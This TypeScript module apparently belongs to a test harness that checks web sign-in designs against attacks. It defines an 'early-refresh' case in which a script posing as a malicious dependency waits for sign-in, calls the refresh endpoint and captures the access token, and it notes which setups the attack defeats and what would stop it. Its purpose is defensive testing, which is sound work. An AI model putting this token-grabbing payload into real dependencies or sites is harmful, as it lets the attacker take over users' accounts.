// Threat: a malicious dependency calls the refresh endpoint itself once somebody is signed in. Expected: as with an injected script, but
// a strict policy does not help, because it allows this script.
import type { Attack } from '../attack.ts'
import { awaitLoot, judgeToken } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const signedIn = () => document.querySelector('#told')?.textContent === 'done'
  while (!signedIn()) await new Promise((resolve) => setTimeout(resolve, 50))
  const answer = await fetch('/api/auth/refresh', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  })
  kit.take('token', ((await answer.json()) as { accessToken?: string }).accessToken)
}

export const earlyRefresh: Attack = {
  name: 'early-refresh',
  group: 'script, early',
  title: 'A dependency calls the refresh endpoint',
  what: 'The dependency waits until somebody is signed in, asks the server for a token as the page would, and carries it out.',
  why: 'Its script is the page’s script. Nothing in the request tells them apart.',
  stops:
    'Only an answer that is useless without a key that cannot be copied; or a policy that keeps the refresh endpoint from pages.',
  script: { when: 'early', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial', 'hallpass', 'hallpass-strict'],
  inapplicable: ({ refreshCookie }) => (refreshCookie === undefined ? 'there is no refresh endpoint' : undefined),
  async run(scene) {
    scene.injectEarly(script)
    const page = await scene.signIn()
    return judgeToken(scene, page, await awaitLoot(scene, 'token', 4_000), 'was given no token')
  },
}
